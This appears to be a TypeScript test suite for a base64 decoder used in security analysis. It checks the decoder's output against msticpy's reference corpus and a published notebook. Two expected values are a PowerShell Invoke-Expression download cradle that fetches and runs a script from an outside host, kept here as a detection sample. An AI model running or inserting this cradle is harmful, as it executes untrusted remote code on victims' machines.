import { readFileSync } from 'node:fs';
import { type DecodedRow, decodeRows } from '../src/core/decode/decodedRows';
import { readCsv } from './csvTable';
import { DECODING_DIFFERENCES, FULL_TEXT_DIFFERENCES } from './decodingDifferences';
import { describeWithReference, referenceFile } from './reference';

const COMPARED = ['file_name', 'file_type', 'decoded_string', 'encoding_type', 'md5', 'sha1', 'sha256'] as const;
/** Their printed bytes are left out of the corpus where they are long. */
const compared = (row: Readonly<Record<string, unknown>>): readonly unknown[] => COMPARED.map((column) => row[column]);

interface DecodingCase {
  readonly name: string;
  readonly input: string;
  readonly unpack: {
    readonly decoded?: string;
    readonly records?: ReadonlyArray<Readonly<Record<string, unknown>>>;
  };
}

describeWithReference('decoding of the reference corpus', () => {
  const { cases } = JSON.parse(readFileSync(referenceFile('expected', 'base64_corpus.json'), 'utf8')) as {
    readonly cases: readonly DecodingCase[];
  };
  const named = cases.map((each) => [each.name, each] as const);
  const caseOf = (name: string): DecodingCase => cases.find((each) => each.name === name)!;
  const sameItems = (ours: readonly DecodedRow[], { unpack }: DecodingCase): boolean =>
    JSON.stringify(ours.map((row) => compared({ ...row }))) === JSON.stringify((unpack.records ?? []).map(compared));

  it.each(named)('gives the items of msticpy, or differs for a reason: %s', (name, each) => {
    expect(sameItems(decodeRows([each.input]).rows, each)).toBe(!(name in DECODING_DIFFERENCES));
  });

  it.each(named.filter(([name]) => !(name in DECODING_DIFFERENCES)))(
    'puts them into the text as msticpy does, or differs for a reason: %s',
    (name, { input, unpack }) => {
      const [row] = decodeRows([input]).rows;
      const same = row === undefined || row.full_decoded_string === unpack.decoded;
      expect(same).toBe(!(name in FULL_TEXT_DIFFERENCES));
    }
  );

  it('lists reasons for cases that are there only', () => {
    const names = cases.map(({ name }) => name);
    expect(names).toEqual(
      expect.arrayContaining([...Object.keys(DECODING_DIFFERENCES), ...Object.keys(FULL_TEXT_DIFFERENCES)])
    );
  });

  it.each([
    ['utf16le_enc', ['Invoke-Expression (New-Object Net.WebClient).DownloadString("http://wh401k.org/getps")']],
    ['utf16be', ['Invoke-Expression (New-Object Net.WebClient).DownloadString("http://wh401k.org/getps")']],
    ['zip_stored', ['stored text content here, long enough']],
    ['tar_0644', ['tar member one text']],
    ['bzip2', [null]],
    ['rar_header', [null]],
    ['sha256_hex', []],
    ['gzip_garbage', [null]],
    ['zip_truncated', ['hello fro']],
  ])('reads %s right where msticpy does not', (name, texts) => {
    expect(decodeRows([caseOf(name).input]).rows.map((row) => row.decoded_string)).toEqual(texts);
  });

  it.each(['msticpy_test_b64text_inzip.txt', 'msticpy_test_base64msg.txt', 'zip_with_nested_b64'])(
    'finds in %s every file that msticpy finds',
    (name) => {
      const hashes = decodeRows([caseOf(name).input]).rows.map((row) => row.sha256);
      const theirs = caseOf(name).unpack.records ?? [];
      expect(hashes).toEqual(expect.arrayContaining(theirs.map((record) => record['sha256'])));
    }
  );
});

describeWithReference('decoding of the published notebook', () => {
  const texts = readCsv(referenceFile('notebook', 'nb_processes_190.csv')).map((row) => row['CommandLine'] ?? '');

  it('finds its one item, with the hashes that were published', () => {
    const { rows } = decodeRows(texts);
    expect(rows.map(({ row, md5, sha1 }) => ({ row, md5, sha1 }))).toEqual([
      { row: 45, md5: '65716544c3db642171b7597cd3deca2b', sha1: '8aa4c81d51732addabcaa5d8f121c79b0923189f' },
    ]);
  });

  it('takes nothing of it for base64 that stands elsewhere', () => {
    const [row] = decodeRows(texts).rows;
    expect(texts[45]!.slice(row!.start, row!.end)).toBe(row!.original_string);
  });
});
